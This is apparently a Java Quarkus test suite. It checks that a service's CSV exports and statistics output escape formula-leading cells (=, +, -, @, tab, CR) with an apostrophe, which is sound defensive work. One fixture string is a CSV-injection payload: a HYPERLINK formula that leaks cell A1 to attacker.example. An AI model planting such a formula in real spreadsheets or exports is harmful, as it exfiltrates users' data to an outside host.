package org.zuofeng.common;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.zuofeng.common.web.Csv;
import org.zuofeng.exports.ExportRunner;
import org.zuofeng.support.Fixtures;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;

import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.zuofeng.support.Api.as;
import static org.zuofeng.support.Api.downloadAs;

/**
 * No CSV the service writes (exports, the statistics) holds a cell that a spreadsheet would run (CSV injection): a
 * text starting with {@code = + - @}, tab or carriage return comes out as text, behind an apostrophe.
 */
@QuarkusTest
class CsvInjectionTest {

    /** Texts a spreadsheet would run: a link that leaks a neighbouring cell, and plain arithmetic. */
    private static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"点击查看\")", "+1+1 窗口无人", "-1+1 窗口无人",
            "@SUM(1+1) 窗口无人");

    @Inject
    ExportRunner runner;

    @Test
    void aFormulaInAnExportedCellComesOutAsText() {
        JsonPath district = Fixtures.aDistrict();
        JsonPath unit = Fixtures.aUnit().under(district).named(FORMULAS.get(0)).create();
        String lead = Fixtures.uniqueCode("lead");
        JsonPath inspection = Fixtures.anInspection("OPEN", unit).lead(lead).started();
        for (String title : FORMULAS) {
            Fixtures.aFinding(inspection, unit).with("title", title).createAs(lead);
        }
        Fixtures.aFinding(inspection, unit).with("title", "窗口无人 (tab)").with("description", "\t=1+1").createAs(lead);
        Fixtures.aFinding(inspection, unit).with("title", "窗口无人 (CR)").with("description", "\r=1+1").createAs(lead);

        List<Map<String, String>> units = exported("UNIT", Map.of("ancestorId", district.getString("id")));
        assertEquals(Set.of(district.getString("name"), "'" + FORMULAS.get(0)),
                units.stream().map(row -> row.get("name")).collect(Collectors.toSet()));

        List<Map<String, String>> findings = exported("FINDING", Map.of("unitId", unit.getString("id")));
        Set<String> titles = findings.stream().map(row -> row.get("title")).collect(Collectors.toSet());
        for (String formula : FORMULAS) {
            assertTrue(titles.contains("'" + formula), "the title " + formula + " comes out as text: " + titles);
        }
        assertEquals(Set.of("'\t=1+1", "'\r=1+1"), findings.stream().map(row -> row.get("description"))
                .filter(d -> !d.isEmpty()).collect(Collectors.toSet()), "a tab or carriage return first, too");
        assertTrue(findings.stream().allMatch(row -> row.get("version").matches("[0-9]+")),
                "numbers stay numbers");
    }

    @Test
    void aFormulaInAUnitsNameComesOutOfTheStatisticsCsvAsText() {
        JsonPath district = Fixtures.aDistrict();
        JsonPath unit = Fixtures.aUnit().under(district).named(FORMULAS.get(0)).create();
        String lead = Fixtures.uniqueCode("lead");
        Fixtures.aFinding(Fixtures.anInspection("OPEN", unit).lead(lead).started(), unit).createAs(lead);

        byte[] csv = as("commission-1", "commission").accept("text/csv").queryParam("unitId", district.getString("id"))
                .queryParam("includeSubunits", true).get("/api/v1/statistics/summary").then().statusCode(200)
                .extract().asByteArray();
        List<List<String>> rows = records(new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8));
        assertTrue(rows.contains(List.of("unitsByFindings", "'" + FORMULAS.get(0), "1")), rows.toString());
    }

    @Test
    void aNumberTheServiceWritesStaysANumber() {
        assertEquals("-12.5,-3,0,1.0E-5,'-1+1,'+3\r\n", Csv.record("-12.5", "-3", "0", "1.0E-5", "-1+1", "+3"));
    }

    /** The rows of a CSV export made by the commission, by member name. */
    private List<Map<String, String>> exported(String entity, Map<String, String> filters) {
        Response answer = as("commission-1", "commission")
                .body(Map.of("entity", entity, "format", "CSV", "filters", filters)).post("/api/v1/exports");
        answer.then().statusCode(202);
        runner.runQueued();
        as("commission-1", "commission").get("/api/v1/exports/{id}", answer.path("id").toString()).then()
                .body("status", equalTo("DONE"));
        byte[] file = downloadAs("commission-1", "commission")
                .get("/api/v1/exports/{id}/content", answer.path("id").toString()).then().statusCode(200).extract()
                .asByteArray();
        List<List<String>> rows = records(new String(file, 3, file.length - 3, StandardCharsets.UTF_8));
        List<String> header = rows.getFirst();
        return rows.subList(1, rows.size()).stream().map(row -> {
            Map<String, String> named = new java.util.HashMap<>();
            for (int i = 0; i < header.size(); i++) {
                named.put(header.get(i), row.get(i));
            }
            return named;
        }).toList();
    }

    /** The records of an RFC 4180 text (after its byte-order mark), as Apache Commons CSV reads them. */
    private static List<List<String>> records(String text) {
        try (CSVParser parser = CSVParser.parse(text, CSVFormat.RFC4180)) {
            return parser.getRecords().stream().map(CSVRecord::toList).toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
